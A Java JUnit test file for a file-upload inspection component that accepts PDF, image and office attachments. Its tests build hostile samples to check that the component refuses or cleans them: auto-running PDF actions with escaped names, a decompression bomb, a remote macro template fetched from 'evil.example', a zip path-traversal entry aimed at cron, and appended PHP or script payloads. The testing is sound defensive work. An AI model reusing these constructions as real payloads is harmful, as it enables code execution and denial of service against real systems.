package fr.passerelle.base.attachment;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.passerelle.base.shared.RuleViolation;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.Random;
import java.util.zip.Deflater;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class InspectionTest {
    private final Inspection inspection = new Inspection(2, Duration.ofSeconds(10));

    @TempDir
    Path folder;

    @Test
    void takesWhatAssociationsSendAndKeepsTheirVeryBytes() throws IOException {
        assertKept("Statuts 2024.pdf", GivenFiles.pdf(), AcceptedType.PDF);
        assertKept("photo.JPG", GivenFiles.jpeg(60, 40), AcceptedType.JPEG);
        assertKept("logo.png", GivenFiles.png(60, 40), AcceptedType.PNG);
        assertKept("projet.docx", GivenFiles.docx(), AcceptedType.DOCX);
        assertKept("rapport.odt", GivenFiles.zip(GivenFiles.odtParts()), AcceptedType.ODT);
    }

    @ParameterizedTest
    @CsvSource({
        "virus.exe, attachment.type.unknown",
        "page.html, attachment.type.unknown",
        "dessin.svg, attachment.type.unknown",
        "IMG_2041.HEIC, attachment.type.photo",
        "budget.xls, attachment.type.office",
        "tout.zip, attachment.type.archive",
        "budget.xlsm, attachment.macros"
    })
    void refusesOtherTypesAndSaysWhatToSendInstead(String name, String code) {
        assertRefused(name, GivenFiles.text("MZ anything"), code);
    }

    @Test
    void refusesAFileWhoseNameAndContentDisagree() {
        assertRefused("facture.pdf", GivenFiles.jpeg(10, 10), "attachment.type.mismatch");
        assertRefused("photo.jpg", GivenFiles.pdf(), "attachment.type.mismatch");
        assertRefused("projet.docx", GivenFiles.text("<html><script>alert(1)</script>"), "attachment.type.mismatch");
        assertRefused("Statuts", GivenFiles.pdf(), "attachment.type.noExtension");
        assertRefused("projet.docx", GivenFiles.zip(GivenFiles.odtParts()), "attachment.type.mismatch");
        assertRefused("budget.xlsx", GivenFiles.docx(), "attachment.office.other");
    }

    @Test
    void refusesAPdfThatIsAlsoSomethingElse() {
        assertRefused(
                "piece.pdf",
                GivenFiles.joined(GivenFiles.pdf(), GivenFiles.zip(GivenFiles.docxParts())),
                "attachment.pdf.foreign");
        byte[] late = GivenFiles.joined(GivenFiles.text("#!/bin/sh\n"), GivenFiles.pdf());
        assertThatThrownBy(() -> inspect("piece.pdf", late)).isInstanceOf(RuleViolation.class);
    }

    @Test
    void refusesAPdfThatActsByItself() {
        assertRefused("piece.pdf", withOpenAction("JavaScript"), "attachment.pdf.active");
        assertRefused("piece.pdf", withOpenAction("Launch"), "attachment.pdf.active");
        assertRefused("piece.pdf", withOpenAction("URI"), "attachment.pdf.active");
        assertRefused("piece.pdf", withCatalogEntry("AcroForm", "XFA"), "attachment.pdf.active");
        assertRefused("piece.pdf", withCatalogEntry("Names", "EmbeddedFiles"), "attachment.pdf.active");
        assertRefused("piece.pdf", withCatalogEntry("Names", "JavaScript"), "attachment.pdf.active");
        assertRefused("piece.pdf", withAnnotation("RichMedia"), "attachment.pdf.active");
        assertRefused("piece.pdf", withAnnotation("FileAttachment"), "attachment.pdf.active");
    }

    @Test
    void takesAPdfThatOpensAtOneOfItsPages() throws IOException {
        assertKept("piece.pdf", withOpenAction("GoTo"), AcceptedType.PDF);
    }

    @Test
    void findsAnActionWhoseNameIsWrittenWithEscapes() {
        String evil = new String(withOpenAction("Launch"), StandardCharsets.ISO_8859_1).replace("/Launch", "/L#61unch");
        assertRefused("piece.pdf", GivenFiles.text(evil), "attachment.pdf.active");
    }

    @Test
    void refusesALockedPdfWithOrWithoutPasswordToOpen() {
        assertRefused("piece.pdf", GivenFiles.lockedPdf("secret"), "attachment.pdf.locked");
        assertRefused("piece.pdf", GivenFiles.lockedPdf(""), "attachment.pdf.locked");
    }

    @Test
    void refusesAPdfWhoseStreamsBlowUp() {
        byte[] bomb = new byte[300_000];
        Deflater deflater = new Deflater(9);
        deflater.setInput(new byte[250_000_000]);
        deflater.finish();
        int size = deflater.deflate(bomb);
        deflater.end();
        byte[] start = GivenFiles.text("%PDF-1.7\n1 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n");
        byte[] end = GivenFiles.text("\nendstream\nendobj\n%%EOF\n");
        byte[] file = GivenFiles.joined(GivenFiles.joined(start, Arrays.copyOf(bomb, size)), end);
        assertRefused("piece.pdf", file, "attachment.tooComplex");
    }

    @ParameterizedTest
    @ValueSource(strings = {"piece.pdf", "piece.jpg", "piece.png", "piece.docx", "piece.odt"})
    void refusesAFileCutInTheMiddle(String name) {
        byte[] whole = switch (name) {
            case "piece.pdf" -> GivenFiles.pdf();
            case "piece.jpg" -> GivenFiles.jpeg(200, 200);
            case "piece.png" -> GivenFiles.png(200, 200);
            case "piece.docx" -> GivenFiles.docx();
            default -> GivenFiles.zip(GivenFiles.odtParts());
        };
        assertRefused(name, Arrays.copyOf(whole, whole.length * 2 / 3), "attachment.damaged");
    }

    @Test
    void refusesMacrosWhereverTheyHide() {
        assertRefused("a.docx", GivenFiles.docxWith("word/vbaProject.bin", "x"), "attachment.macros");
        assertRefused("a.docx", GivenFiles.docxWith("word/VBAPROJECT.BIN", "x"), "attachment.macros");
        assertRefused("a.docx", GivenFiles.docxWith("word/activeX/activeX1.xml", "x"), "attachment.macros");
        assertRefused("a.odt", GivenFiles.odtWith("Basic/Standard/Module1.xml", "x"), "attachment.macros");
        String remote = "<Relationship Type=\"http://schemas.openxmlformats.org/x/attachedTemplate\" "
                + "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>";
        assertRefused("a.docx", GivenFiles.docxWith("word/_rels/settings.xml.rels", remote), "attachment.macros");
    }

    @Test
    void refusesAnOfficeFileThatBlowsUpOrEscapes() {
        assertRefused("a.docx", GivenFiles.docxWith("word/big.xml", " ".repeat(3_000_000)), "attachment.tooComplex");
        assertRefused("a.docx", GivenFiles.docxWith("../../etc/cron.d/evil", "x"), "attachment.damaged");
        var parts = GivenFiles.docxParts();
        for (int i = 0; i < 2_001; i++) {
            parts.put("word/p" + i + ".xml", "x");
        }
        assertRefused("a.docx", GivenFiles.zip(parts), "attachment.tooComplex");
    }

    @Test
    void refusesALockedOfficeFile() {
        assertRefused(
                "a.odt",
                GivenFiles.odtWith("META-INF/manifest.xml", "<manifest:encryption-data/>"),
                "attachment.office.protected");
    }

    @Test
    void refusesAPictureTooLargeToOpenSafely() {
        byte[] png = GivenFiles.png(20, 20);
        byte[] huge = png.clone();
        java.nio.ByteBuffer.wrap(huge).putInt(16, 100_000).putInt(20, 100_000);
        java.util.zip.CRC32 sum = new java.util.zip.CRC32();
        sum.update(huge, 12, 17);
        java.nio.ByteBuffer.wrap(huge).putInt(29, (int) sum.getValue());
        assertRefused("carte.png", huge, "attachment.picture.tooLarge");
    }

    @Test
    void leavesThePlaceOutOfAPhotographAndKeepsItUprightAndItsPixelsEqual() throws IOException {
        byte[] sent = GivenFiles.photograph(6, "GPS 50.6292 3.0573");
        byte[] kept = Files.readAllBytes(inspect("photo.jpg", sent).file());
        assertThat(new String(kept, StandardCharsets.ISO_8859_1)).doesNotContain("GPS");
        assertThat(kept).containsSequence(ExifOrientation.write(6));
        assertThat(pixels(kept)).isEqualTo(pixels(sent));
        assertKept("photo.jpg", kept, AcceptedType.JPEG);
    }

    @Test
    void leavesTextsOutOfAPngAndWhateverFollowsAPicture() throws IOException {
        byte[] sent = GivenFiles.joined(GivenFiles.pngWith("tEXt", "Author\0Camille"), GivenFiles.text("<?php evil"));
        byte[] kept = Files.readAllBytes(inspect("logo.png", sent).file());
        assertThat(new String(kept, StandardCharsets.ISO_8859_1)).doesNotContain("Camille", "php");
        assertThat(pixels(kept)).isEqualTo(pixels(sent));
        byte[] tailed = GivenFiles.joined(GivenFiles.jpeg(30, 30), GivenFiles.text("<?php evil"));
        assertThat(Files.readAllBytes(inspect("photo.jpg", tailed).file())).isEqualTo(GivenFiles.jpeg(30, 30));
    }

    @Test
    void answersAnyDamagedFileWithARefusalAndNeverWithACrash() {
        Random random = new Random(2026);
        byte[][] seeds = {GivenFiles.pdf(), GivenFiles.jpeg(40, 40), GivenFiles.png(40, 40), GivenFiles.docx()};
        String[] names = {"a.pdf", "a.jpg", "a.png", "a.docx"};
        for (int i = 0; i < 400; i++) {
            byte[] damaged = seeds[i % 4].clone();
            for (int j = 0; j <= i / 40; j++) {
                damaged[random.nextInt(damaged.length)] = (byte) random.nextInt(256);
            }
            String name = names[i % 4];
            try {
                assertThat(inspect(name, damaged).type().mediaType()).isNotEmpty();
            } catch (RuleViolation refusal) {
                assertThat(refusal.code()).startsWith("attachment.");
            } catch (IOException crash) {
                throw new AssertionError("seed " + i + " of " + name, crash);
            }
        }
    }

    private static byte[] withOpenAction(String type) {
        return GivenFiles.pdf(document -> {
            COSDictionary action = new COSDictionary();
            action.setName("S", type);
            action.setItem("JS", new COSString("app.alert(1)"));
            document.getDocumentCatalog().getCOSObject().setItem("OpenAction", action);
        });
    }

    private static byte[] withCatalogEntry(String entry, String key) {
        return GivenFiles.pdf(document -> {
            COSDictionary inner = new COSDictionary();
            inner.setItem(key, new COSDictionary());
            document.getDocumentCatalog().getCOSObject().setItem(entry, inner);
        });
    }

    private static byte[] withAnnotation(String subtype) {
        return GivenFiles.pdf(document -> {
            COSDictionary annotation = new COSDictionary();
            annotation.setName(COSName.SUBTYPE, subtype);
            COSArray annotations = new COSArray();
            annotations.add(annotation);
            document.getPage(0).getCOSObject().setItem(COSName.ANNOTS, annotations);
        });
    }

    private static int[] pixels(byte[] picture) throws IOException {
        BufferedImage image = ImageIO.read(new ByteArrayInputStream(picture));
        return image.getRGB(0, 0, image.getWidth(), image.getHeight(), null, 0, image.getWidth());
    }

    private void assertKept(String name, byte[] content, AcceptedType type) throws IOException {
        Inspection.Finding finding = inspect(name, content);
        assertThat(finding.type()).isEqualTo(type);
        assertThat(Files.readAllBytes(finding.file())).isEqualTo(content);
    }

    private void assertRefused(String name, byte[] content, String code) {
        assertThatThrownBy(() -> inspect(name, content))
                .isInstanceOfSatisfying(
                        RuleViolation.class,
                        refusal -> assertThat(refusal.code()).isEqualTo(code));
    }

    private Inspection.Finding inspect(String name, byte[] content) throws IOException {
        Path received = Files.write(Files.createTempFile(folder, "received", ""), content);
        return inspection.inspect(FileName.sanitised(name), received);
    }
}
